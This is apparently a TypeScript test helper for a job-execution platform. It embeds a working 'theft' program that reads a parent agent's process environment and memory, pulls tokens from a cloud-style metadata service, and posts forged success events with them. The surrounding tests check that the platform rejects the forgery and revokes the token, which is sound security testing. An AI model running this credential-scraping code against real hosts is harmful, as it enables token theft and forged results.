/**
 * A workload that tries to steal its execution's agent credential and forge its result
 * (issue #12 §1), as a hostile tenant would: it reads its parent's (the boot agent's)
 * /proc/<pid>/environ and /proc/<pid>/mem (scanning the writable memory for tokens when
 * the file opens), asks the metadata service for a session token and then the document
 * and the token field, and posts a forged `runtime_exited {"code":0}` with every token it
 * found and with none. Then it exits 3 and prints one line, `THEFT-REPORT <json>`.
 *
 * Its environment (secrets): API_URL and EXECUTION_ID (what it targets), MMDS_URL (where
 * the metadata service is: 169.254.169.254 in a VM). Without MMDS_URL it prints
 * `THEFT-NEED-MMDS <parent pid>` and waits up to 10 s for a file `mmds-url` in its working directory:
 * on the process driver the service listens on a random loopback port, which a port scan
 * would find; the test hands it over instead of scanning other tests' ports.
 */
import fs from 'node:fs/promises';
import path from 'node:path';
import { expect } from 'vitest';
import type { SwarmError } from '../../packages/sdk/src/index.js';
import type { TestRegistry } from './registry.js';

export const THEFT_EXIT_CODE = 3;

export type TheftReport = {
  uid: number;
  environ: string;
  mem: string;
  mmds: { url: string; token: number; document: number; agentToken: number } | null;
  tokens: string[];
  forged: Array<{ token: string; seq: number; status: number }>;
};

export const theftProgram = `const fs = require('node:fs');
const http = require('node:http');
const loot = [];
const attempt = (read) => {
  try {
    loot.push(read());
    return 'read';
  } catch (err) {
    return err.code || err.message;
  }
};
const request = (url, { method = 'GET', headers = {}, body } = {}) =>
  new Promise((resolve) => {
    const req = http.request(url, { method, headers, timeout: 3000 }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode, text }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (err) => resolve({ status: 0, text: err.message }));
    req.end(body);
  });

/** The writable mappings of the agent's memory, at most 512 MiB of them. */
function readMemory(pid) {
  const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
  const parts = [];
  let budget = 512 * 1024 * 1024;
  try {
    for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n')) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
      if (!m || budget <= 0) continue;
      const start = Number.parseInt(m[1], 16);
      const size = Math.min(Number.parseInt(m[2], 16) - start, budget);
      const buf = Buffer.alloc(size);
      try {
        fs.readSync(fd, buf, 0, size, start);
        parts.push(buf.toString('latin1'));
        budget -= size;
      } catch {}
    }
  } finally {
    fs.closeSync(fd);
  }
  return parts.join('');
}

async function mmdsUrl() {
  if (process.env.MMDS_URL) return process.env.MMDS_URL;
  console.log('THEFT-NEED-MMDS ' + process.ppid);
  for (let i = 0; i < 100; i++) {
    try {
      return fs.readFileSync('mmds-url', 'utf8').trim();
    } catch {
      await new Promise((r) => setTimeout(r, 100));
    }
  }
  return null;
}

async function main() {
  const report = { uid: process.getuid() };
  report.environ = attempt(() => fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1'));
  report.mem = attempt(() => readMemory(process.ppid));
  const url = await mmdsUrl();
  report.mmds = null;
  if (url) {
    const token = await request(url + '/latest/api/token', { method: 'PUT', headers: { 'x-metadata-token-ttl-seconds': '60' } });
    const headers = { 'x-metadata-token': token.text, accept: 'application/json' };
    const document = await request(url + '/', { headers });
    const agentToken = await request(url + '/execution/agentToken', { headers });
    loot.push(document.text, agentToken.text);
    report.mmds = { url, token: token.status, document: document.status, agentToken: agentToken.status };
  }
  report.tokens = [...new Set(loot.join('\\n').match(/sw[a-z]_[A-Za-z0-9_-]{20,}/g) || [])];
  report.forged = [];
  for (const token of [...report.tokens, '']) {
    for (const seq of [6, 7, 8]) {
      const res = await request(process.env.API_URL + '/trpc/executions.appendEvent', {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...(token ? { authorization: 'Bearer ' + token } : {}) },
        body: JSON.stringify({ executionId: process.env.EXECUTION_ID, seq, type: 'runtime_exited', data: { code: 0 } }),
      });
      report.forged.push({ token: token.slice(0, 8), seq, status: res.status });
    }
  }
  console.log('THEFT-REPORT ' + JSON.stringify(report));
  process.exit(${THEFT_EXIT_CODE});
}
main();
`;

/** The report line of a theft run's output. */
export function theftReport(output: string): TheftReport {
  const line = output.split('\n').find((l) => l.startsWith('THEFT-REPORT '));
  if (!line) throw new Error(`no THEFT-REPORT line in the output:\n${output.slice(-3000)}`);
  return JSON.parse(line.slice('THEFT-REPORT '.length)) as TheftReport;
}

/**
 * For the process driver's onOutput: when the workload asks (`THEFT-NEED-MMDS <agent pid>`),
 * reads the metadata service's address from the agent's environment (the test runs as
 * root) and leaves it in the workload's directory.
 */
export function handOverMetadataAddress(line: string): void {
  const pid = /^THEFT-NEED-MMDS (\d+)$/.exec(line)?.[1];
  if (!pid) return;
  void (async () => {
    const env = (await fs.readFile(`/proc/${pid}/environ`, 'latin1')).split('\0');
    const value = (name: string) => env.find((e) => e.startsWith(`${name}=`))?.slice(name.length + 1);
    await fs.writeFile(path.join(value('SWARM_WORKFLOW_DIR')!, 'mmds-url'), value('SWARM_MMDS_URL')!);
  })();
}

/**
 * After a theft run: the registry recorded the agent's real result (failed with the
 * workload's exit code, one runtime_exited), and the bootstrap token the metadata carried
 * is dead (the exchange and the revocation at the terminal status, issue #12 §1).
 */
export async function expectRealResultAndDeadToken(reg: TestRegistry, executionId: string, bootstrapToken: string): Promise<void> {
  const admin = reg.client();
  expect(await admin.call(() => admin.trpc.executions.get.query({ id: executionId }))).toMatchObject({
    status: 'failed',
    exitCode: THEFT_EXIT_CODE,
  });
  const events = await admin.call(() => admin.trpc.executions.events.query({ id: executionId }));
  expect(events.filter((e) => e.type === 'runtime_exited').map((e) => e.data)).toEqual([{ code: THEFT_EXIT_CODE }]);
  const agent = reg.client(bootstrapToken);
  const late = await agent
    .call(() => agent.trpc.executions.appendEvent.mutate({ executionId, seq: 100, type: 'runtime_exited', data: { code: 0 } }))
    .catch((e: SwarmError) => e);
  expect(late).toMatchObject({ code: 'UNAUTHORIZED' });
}
